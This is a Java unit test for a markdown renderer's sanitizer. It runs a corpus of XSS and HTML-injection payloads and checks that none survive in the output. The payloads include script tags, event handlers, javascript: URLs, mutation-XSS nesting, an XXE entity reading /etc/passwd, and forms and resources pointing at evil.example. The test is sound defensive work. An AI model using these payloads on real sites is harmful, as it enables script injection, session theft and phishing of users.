package dev.graspd.server.site.text.markdown;

import static dev.graspd.server.site.text.markdown.TestLinks.html;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Texts that try to do more than to be read (W-93). */
final class HostileMarkdownTest {
  private static List<String> corpus() {
    return List.of(
        // Scripts.
        "<script>alert(1)</script>",
        "a <script>alert(1)</script> b",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\u0000>alert(1)</script>",
        "<script/x>alert(1)</script>",
        "<script>\n\nalert(1)\n\n</script>\n\nafter",
        "<<script>alert(1)//<</script>",
        "<script",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        // Event handlers.
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\" / >",
        "<img/src=x/onerror=alert(1)>",
        "<p onmouseover=alert(1)>x</p>",
        "<details open ontoggle=alert(1)>x</details>",
        "<a href=\"x\" onclick=\"alert(1)\">x</a>",
        "<img src=x alt=\"&quot; onerror=&quot;alert(1)\">",
        "![\" onerror=\"alert(1)](x)",
        "[x](https://a.example/\"onmouseover=\"alert(1))",
        "[x](https://a.example 'a\" onclick=\"alert(1)')",
        "# <img src=x onerror=alert(1)>",
        // Places.
        "[x](javascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](javascript&#x3a;alert(1))",
        "[x](<  javascript:alert(1)>)",
        "[x](\u0001javascript:alert(1))",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"jav&Tab;ascript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "<img src=\"javascript:alert(1)\">",
        "<img src=x srcset=\"https://evil.example/a 1x\" lowsrc=\"https://evil.example/b\">",
        "<table background=\"https://evil.example/x\"><tr><td>x</td></tr></table>",
        "<a href=x ping=https://evil.example target=_blank>x</a>",
        "<a href=\"/\\evil.example\">x</a>",
        "<a href=\"\\\\evil.example\">x</a>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        // Other worlds.
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        // Styles.
        "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
        "<p style=\"background:url(https://evil.example/x)\">x</p>",
        "<div class=\"banner\" style=\"position:fixed;top:0\">x</div>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        // The page around.
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<form action=\"https://evil.example\"><input name=q><button>x</button></form>",
        "<form><form action=//evil.example><input type=submit></form></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<input autofocus onfocus=alert(1)>",
        "<iframe src=\"https://evil.example\" srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"https://evil.example\"></object><embed src=\"https://evil.example\">",
        "<frameset><frame src=//evil.example></frameset>",
        "<video src=//evil.example onerror=alert(1)><source onerror=alert(1)></video>",
        "<body onload=alert(1)><html><head><title>x</title>",
        "</article></main></body></html><h1>mine</h1>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext>x",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        // Ids and names.
        "<a id=main name=main href=#main>x</a>",
        "<img name=body id=attributes>",
        "<p id=\"user-content-x\">x</p><p id=\"x\">y</p>",
        "<p id=\"a b\" id=c>x</p>",
        "# main\n\n# skip",
        // Broken ones.
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "<p title=\"</p><script>alert(1)</script>\">x",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<a href=\"x\"><a href=\"y\">z</a></a>",
        "<table><tr><td><table><form><input></form></table></td></tr></table>",
        "<b><p><i></b></p></i><div></b></table>",
        "```html\n<script>alert(1)</script>\n```",
        "```\"onclick=alert(1)\nx\n```",
        "`<script>alert(1)</script>`",
        "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
        "- [x] <img src=x onerror=alert(1)>",
        "> [!NOTE]\n> <script>alert(1)</script>",
        "\ud83d<script>alert(1)</script>\udc00",
        "\u202e<script>alert(1)</script>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;");
  }

  @ParameterizedTest
  @MethodSource("corpus")
  void nothingButKnownElementsComesOut(String source) {
    for (String text :
        List.of(source, "x\n\n" + source + "\n\ny", "- " + source, "*" + source + "*")) {
      Markdown.Outcome outcome = Markdown.render(text, new TestLinks(false));
      assertThat(outcome).isInstanceOf(Markdown.Outcome.Rendered.class);
      AllowedNodes.check(((Markdown.Outcome.Rendered) outcome).nodes(), TestLinks.OWN);
      assertThat(html(text).toLowerCase(Locale.ROOT))
          .doesNotContain(
              "<script", "<img src=\"x\"", "<style", "<svg", "<form", "<input", "<iframe")
          .satisfies(page ->
              assertThat(page.replaceAll("\"[^\"]*\"", ""))
                  .doesNotContainPattern("<[^>]* on[a-z]+="));
    }
  }

  @Test
  void contentOfScriptsAndStylesIsNotShown() {
    assertThat(html("<script>alert(1)</script>\n\na")).isEqualTo("<p>a</p>");
    assertThat(html("<style>p {}</style>\n\na")).isEqualTo("<p>a</p>");
    assertThat(html("<svg><text>x</text></svg>\n\na")).doesNotContain("x");
    assertThat(html("a <script>b *c* <i>d</i></script> e")).isEqualTo("<p>a  e</p>");
  }

  @Test
  void textAfterAnAttackIsStillThere() {
    assertThat(html("<svg><p>\n\n**a**")).contains("<strong>a</strong>");
    assertThat(html("<xmp>\n\n**a**")).contains("<strong>a</strong>");
  }
}
